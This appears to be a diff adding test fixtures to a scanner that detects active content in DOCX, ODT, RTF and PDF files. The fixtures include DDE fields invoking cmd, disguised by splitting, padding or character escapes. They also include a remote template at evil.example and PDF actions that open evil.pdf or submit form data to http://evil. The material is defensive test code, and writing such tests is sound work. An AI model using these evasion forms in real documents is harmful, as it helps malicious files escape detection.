@@ -77,6 +77,28 @@ RUN = {
     "docx, a program": with_part(DOCX, "word/media/image1.png", b"MZ" + bytes(60)),
     "docx, a control": with_part(DOCX, "word/activeX/activeX1.xml", "<ax:ocx ax:classid='{1}' xmlns:ax='activeX'/>"),
     "docx, DDE": with_part(DOCX, "word/footer1.xml", "<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>"),
+    "docx, DDE without a word more": with_part(DOCX, "word/footer1.xml", "<w:instrText> DDE cmd a</w:instrText>"),
+    "docx, DDE in two runs": with_part(
+        DOCX,
+        "word/footer1.xml",
+        "<w:fldChar/><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DEAUTO cmd</w:instrText>",
+    ),
+    "docx, DDE in two runs far apart": with_part(
+        DOCX,
+        "word/footer1.xml",
+        f"<w:instrText>DD</w:instrText><w:t>{'x' * 70_000}</w:t><w:instrText>E cmd</w:instrText>",
+    ),
+    "docx, DDE in one word": with_part(DOCX, "word/footer1.xml", '<w:p><w:fldSimple w:instr="DDE cmd a"/></w:p>'),
+    "docx, DDE by the numbers of its letters": with_part(
+        DOCX, "word/footer1.xml", "<w:instrText>&#68;&#x44;EAUTO cmd</w:instrText>"
+    ),
+    "docx, macros by the number of a letter": with_part(
+        DOCX, "word/_rels/document.xml.rels", '<Relationship Type="office/2006/relationships/vba&#80;roject"/>'
+    ),
+    "docx, a frame from elsewhere": related(DOCX, "frame", "word/_rels/webSettings.xml.rels"),
+    "docx, a document from elsewhere": related(DOCX, "subDocument"),
+    "docx, letters to people of a database": related(DOCX, "mailMergeSource", "word/_rels/settings.xml.rels"),
+    "xlsx, a database": with_part(XLSX, "xl/connections.xml", '<dbPr connection="Provider=x" command="exec"/>'),
     "docx, a workbook with macros in it": with_part(
         DOCX, "word/embeddings/a.xlsx", with_part(XLSX, "xl/vbaProject.bin", "x")
     ),
@@ -89,6 +111,14 @@ RUN = {
     "odt, an event": with_part(
         open_document("text"), "styles.xml", "<script:event-listener script:event-name='dom:load'/>"
     ),
+    "odt, a script": with_part(
+        open_document("text"), "a.xml", '<text:script script:language="JavaScript">x</text:script>'
+    ),
+    "odt, a link to a macro": with_part(
+        open_document("text"), "a.xml", '<text:a xlink:href="vnd.sun.star.script:a.b?language=Basic"/>'
+    ),
+    "ods, DDE": with_part(open_document("spreadsheet"), "a.xml", "<table:dde-link/>"),
+    "odt, an applet": with_part(open_document("text"), "a.xml", "<draw:applet/>"),
     "odt, an object": with_part(open_document("text"), "Object 1", compound("x")),
     "doc, macros": OLD_VBA,
     "doc, macros in small letters": compound("WordDocument", "x/y/_vba_project"),
@@ -107,10 +137,18 @@ RUN = {
     "rtf, an object": rb"{\rtf1 {\object\objemb{\*\objdata 0105}}}",
     "rtf, a template from elsewhere": rb"{\rtf1 {\*\template http://evil.example/a.dotm}}",
     "rtf, DDE": rb"{\rtf1 {\field{\*\fldinst DDE cmd}}}",
+    "rtf, an object with a number": rb"{\rtf1 {\object1\objemb2{\*\objdata0 0105}}}",
+    "rtf, a template with a number": rb"{\rtf1 {\*\template0 http://evil.example/a.dotm}}",
+    "rtf, DDE in groups": rb"{\rtf1 {\field{\*\fldinst{\b D}{\i DEAUTO} cmd}}}",
+    "rtf, DDE by the numbers of its letters": rb"{\rtf1 {\field{\*\fldinst \'44\u68?\'45 cmd}}}",
     "pdf, a script": PDF + b"2 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n",
     "pdf, a script in other letters": PDF + b"2 0 obj\n<</S/J#61va#53cript/JS(1)>>\nendobj\n",
     "pdf, a program": PDF + b"2 0 obj\n<</S /Launch /F (cmd.exe)>>\nendobj\n",
     "pdf, a file in it": PDF + b"2 0 obj\n<</Type /EmbeddedFile>>\nendobj\n",
+    "pdf, a script by another name": PDF + b"2 0 obj\n<</S/Rendition/JS(app.alert(1))>>\nendobj\n",
+    "pdf, a file of its own opened": PDF + b"2 0 obj\n<</S/GoToE/T<</R/C/N(a)>>>>\nendobj\n",
+    "pdf, a file from elsewhere opened": PDF + b"2 0 obj\n<</S/GoToR/F(evil.pdf)>>\nendobj\n",
+    "pdf, what is typed into it is sent": PDF + b"2 0 obj\n<</S/SubmitForm/F(http://evil)>>\nendobj\n",
     "pdf, a script packed into a stream": packed(b"<</S/JavaScript/JS(app.alert(1))>>"),
     "pdf, a program packed into a stream": packed(b"<</S/Launch/F(cmd.exe)>>"),
 }
@@ -119,6 +157,9 @@ SILENT = {
     "docx with a picture": with_part(DOCX, "word/media/image1.png", b"\x89PNG\r\n\x1a\n vbaProject"),
     "docx that speaks of macros": with_part(
         DOCX, "word/comments.xml", "<w:t>no macros please, /control the budget</w:t>"
+    ),
+    "docx with fields and hidden words": with_part(
+        DOCX, "word/a.xml", "<w:instrText>HYPERLINK</w:instrText><w:instrText> hidden adder</w:instrText> DDE"
     ),
     "xls with two sheets": compound(Workbook=workbook(0, 0)),
     "doc of an office": compound("WordDocument", **{"1Table": "C:\\Office\\Normal.dotm".encode("utf-16-le")}),
